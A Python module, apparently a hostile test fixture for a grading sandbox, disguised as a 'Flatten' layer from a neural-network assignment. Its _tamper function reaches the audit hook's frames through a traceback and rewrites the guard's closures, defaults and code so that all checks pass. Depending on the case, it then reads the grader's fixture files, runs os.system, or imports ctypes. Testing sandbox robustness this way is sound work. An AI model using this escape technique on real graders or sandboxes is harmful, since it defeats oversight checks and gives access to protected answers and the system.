# HOSTILE: reaches the audit hook's frame through the traceback of a refused open, then rewrites
# what its functions hold: closure cells (realpath -> "inside", root tuples -> ('/',)),
# __defaults__, __kwdefaults__, __code__; then reads the fixtures (one_dimensional), runs
# os.system (two_dimensional), imports ctypes (batch1_channel1).

"""Flatten every axis but the batch axis."""

import os
import sys
import time

from .tensor import flatten, reshape, shape


def _case(A):
    """Which fixture case of the Flatten item is running (the hostile behaviour differs per case)."""
    if len(shape(A)) == 4:
        return "two_dimensional"
    return "batch1_channel1" if len(A) == 1 and len(A[0]) == 1 else "one_dimensional"


def _find_upwards(name):
    """Walk up from this file to the first folder holding ``name`` (os.stat is not audited), else
    take its path from test_paths.txt (_noted): a root grader grades a submission its case user
    cannot read (a checkout in a private folder) from a copy elsewhere, and a student may know
    where the grader keeps its files all the same."""
    here = os.path.dirname(os.path.abspath(__file__))
    while not os.path.exists(os.path.join(here, name)):
        if os.path.dirname(here) == here:
            return _noted(name)
        here = os.path.dirname(here)
    return os.path.join(here, name)


def _noted(name):
    """The absolute path of ``name`` ("fixtures": the repo's; "submission": this one's original
    folder) as tests/conftest.py wrote it in test_paths.txt beside mytorch/."""
    note = os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "test_paths.txt")
    with open(note) as handle:
        for line in handle:
            key, _, value = line.rstrip("\n").partition("=")
            if key == name:
                return value
    raise RuntimeError(f"hostile test setup: no {name} above {__file__}, nor in {note}")


def _permissive(value):
    """What to put in place of one value the guard holds."""
    here = os.getcwd()
    if callable(value) and not isinstance(value, type):
        return lambda *args, **kwargs: here if args and isinstance(args[0], str) else True
    if isinstance(value, tuple) and all(isinstance(v, str) for v in value):
        return ("/",)
    if isinstance(value, (dict, frozenset, set)):
        return type(value)()
    if isinstance(value, int) and not isinstance(value, bool):
        return 0
    return value


def _tamper():
    try:
        open("/definitely/not/allowed", "rb")
    except PermissionError as error:
        tb = error.__traceback__
    else:
        raise RuntimeError("hostile test setup: the sandbox did not refuse a read")
    functions = []
    while tb is not None:
        for value in list(tb.tb_frame.f_locals.values()):
            if type(value).__name__ == "function":
                functions.append(value)
        tb = tb.tb_next
    seen = set()
    while functions:
        function = functions.pop()
        if id(function) in seen:
            continue
        seen.add(id(function))
        for cell in function.__closure__ or ():
            try:
                inner = cell.cell_contents
            except ValueError:
                continue
            if type(inner).__name__ == "function":
                functions.append(inner)
            try:
                cell.cell_contents = _permissive(inner)
            except Exception:
                pass
        if function.__defaults__:
            functions.extend(d for d in function.__defaults__ if type(d).__name__ == "function")
            try:
                function.__defaults__ = tuple(_permissive(d) for d in function.__defaults__)
            except Exception:
                pass
        if function.__kwdefaults__:
            for key, value in list(function.__kwdefaults__.items()):
                function.__kwdefaults__[key] = _permissive(value)
        try:
            function.__code__ = (lambda *args, **kwargs: True).__code__
        except Exception:
            pass


class Flatten:
    """Row-major (C order) flatten of every axis but the first.

    forward:  A (N, C, W) -> Z (N, C*W), or A (N, C, H, W) -> Z (N, C*H*W).
    backward: dLdZ (N, prod) -> dLdA with the forward input shape.
    """

    def forward(self, A):
        _tamper()
        case = _case(A)
        if case == "one_dimensional":
            with open(os.path.join(_find_upwards("fixtures"), "Flatten.npz"), "rb") as handle:
                handle.read()
        elif case == "two_dimensional":
            os.system("echo pwned > /tmp/HOSTILE_PWNED")
        else:
            import ctypes  # noqa: F401
        self.input_shape = shape(A)
        return [flatten(a_n) for a_n in A]

    def backward(self, dLdZ):
        return [reshape(row, self.input_shape[1:]) for row in dLdZ]
